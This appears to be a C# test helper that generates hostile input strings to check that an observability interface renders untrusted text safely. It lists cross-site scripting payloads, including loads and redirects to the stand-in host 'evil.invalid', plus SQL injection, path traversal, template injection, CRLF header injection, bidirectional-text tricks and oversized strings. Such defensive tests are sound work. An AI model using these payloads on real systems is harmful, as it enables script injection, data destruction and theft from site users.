using System.Globalization;
using System.Text;

namespace Observe.EndToEnd.Tests.Hostile;

/// <summary>
/// Texts that somebody sends who means harm, or whose program is broken: markup, script, templates, SQL, paths, control characters, text that runs the other
/// way, and text that is far too wide or too tall. Halves of surrogate pairs are here as what the collector makes of them. Each has a mark by which it is found on a page, and calls <c>hit</c> if it is ever run.
/// </summary>
internal static class HostileStrings
{
    private const string Elsewhere = "//evil.invalid/";

    private static readonly string[] Payloads =
    [
        "<script>hit('{0}')</script>", "<script src=" + Elsewhere + "{0}.js></script>", "<ScRiPt >hit('{0}')</sCrIpT>", "<img src=x onerror=hit('{0}')>",
        "<img src=" + Elsewhere + "{0}.png>", "<svg/onload=hit('{0}')>", "<svg><script>hit('{0}')</script></svg>", "<svg><use href='data:image/svg+xml,{0}#x'/></svg>",
        "<svg><animate onbegin=hit('{0}') attributeName=x dur=1s>", "<iframe src=javascript:hit('{0}')></iframe>", "<iframe srcdoc=\"<script>parent.hit('{0}')</script>\">",
        "<object data=javascript:hit('{0}')></object>", "<embed src=" + Elsewhere + "{0}>", "<a href=javascript:hit('{0}')>here</a>", "<base href=" + Elsewhere + "{0}/>",
        "<link rel=stylesheet href=" + Elsewhere + "{0}.css>", "<style>* { display: none !important } /* {0} */</style>", "<style>@import '" + Elsewhere + "{0}.css';</style>",
        "<meta http-equiv=refresh content='0;url=" + Elsewhere + "{0}'>", "<form action=" + Elsewhere + "{0}><button>Send</button></form>", "<input autofocus onfocus=hit('{0}')>",
        "<details open ontoggle=hit('{0}')>", "<video><source onerror=hit('{0}')></video>", "<body onload=hit('{0}')>", "<marquee onstart=hit('{0}')>{0}</marquee>",
        "<math><mtext></table><img src=x onerror=hit('{0}')>", "<template><script>hit('{0}')</script></template>", "<noscript><p title=\"</noscript><img src=x onerror=hit('{0}')>\">",
        "<div style='position:fixed;inset:0;background:red'>{0}</div>", "<plaintext>{0}", "<xmp>{0}", "<!--{0}--><script>hit('{0}')</script>", "<![CDATA[<script>hit('{0}')</script>]]>",
        "</title></style></textarea></script><script>hit('{0}')</script>", "x\" onmouseover=\"hit('{0}')\" autofocus onfocus=\"hit('{0}')", "x' onmouseover='hit(`{0}`)' tabindex='1",
        "<!--Blazor:{\"type\":\"server\",\"descriptor\":\"{0}\"}-->", "javascript:hit('{0}')", "JaVaScRiPt:hit('{0}')", "java\tscript:hit('{0}')", "vbscript:hit('{0}')",
        "data:text/html,<script>parent.hit('{0}')</script>", "&lt;script&gt;hit('{0}')&lt;/script&gt;", "&#60;script&#62;hit('{0}')", "%3Cscript%3Ehit('{0}')%3C/script%3E",
        "\\u003cscript\\u003ehit('{0}')", "{{constructor.constructor('hit(1)')()}} {0}", "${hit('{0}')}", "#{hit('{0}')}", "<%= hit('{0}') %>", "@(hit(\"{0}\"))",
        "{% raw %}{0}", "`${hit('{0}')}`", "'; DROP TABLE spans; -- {0}", "' OR 1=1 -- {0}", "\" or \"{0}\" != \"", "{0} {p0:String} %s %n %1$s", "../../../../etc/hosts {0}",
        "..\\..\\{0}", "/trace/../settings?{0}#{0}", "__proto__.{0}", "constructor {0}", "\0{0}\0", "{0}\ufffd", "\ufffd{0}", "{0}\ufffe\uffff", "\u202e{0} txt.exe", "\u2067\u202d\u2066{0}",
        "{0} \u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd", "\u200b\u200c\u200d\ufeff\u00ad{0}", "\r\nX-Evil: {0}\r\n\r\n", "\u001b[31;5m{0}\u001b[0m\a\b", "{0}\u2028\u2029\u0085",
        "\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n{0}", "\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t{0}", "NaN {0}", "-1e999 {0}", "null {0}", "((((((((((((((((((((((((((((((({0}", "[{\"{0}\":[[[[",
    ];

    /// <summary>What is put around a payload, so that it falls out of whatever it stands in.</summary>
    private static readonly string[] Breaks = ["", "", "", "\">", "'>", "-->", "]]>", "</script>", "\\\"", "\u202e", "\n", "<", "&"];

    /// <param name="number">Below 100,000: what it is found by, and what it is made from.</param>
    public static string Of(int number)
    {
        var random = new Random(number);
        var mark = Mark(number);
        return (number % 500) switch
        {
            // As wide, as tall and as long as there is: without a place to break.
            97 => mark + new string('W', number % 2_500 == 97 ? 60_000 : 3_000),
            98 => mark + Repeat("e\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u030a\u030b\u030c\u0310\u0316\u0317\u0318\u0323\u0324", 60),
            99 => mark + Repeat("\ufdfd\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466\u0e47\u0e47\u0e47", 100),
            _ => Breaks[random.Next(Breaks.Length)] + Payloads[number % Payloads.Length].Replace("{0}", mark, StringComparison.Ordinal) + Breaks[random.Next(Breaks.Length)],
        };
    }

    /// <summary>Such as <c>h00042z</c>.</summary>
    public static string Mark(int number) => $"h{number.ToString("00000", CultureInfo.InvariantCulture)}z";

    private static string Repeat(string text, int times) => new StringBuilder(text.Length * times).Insert(0, text, times).ToString();
}
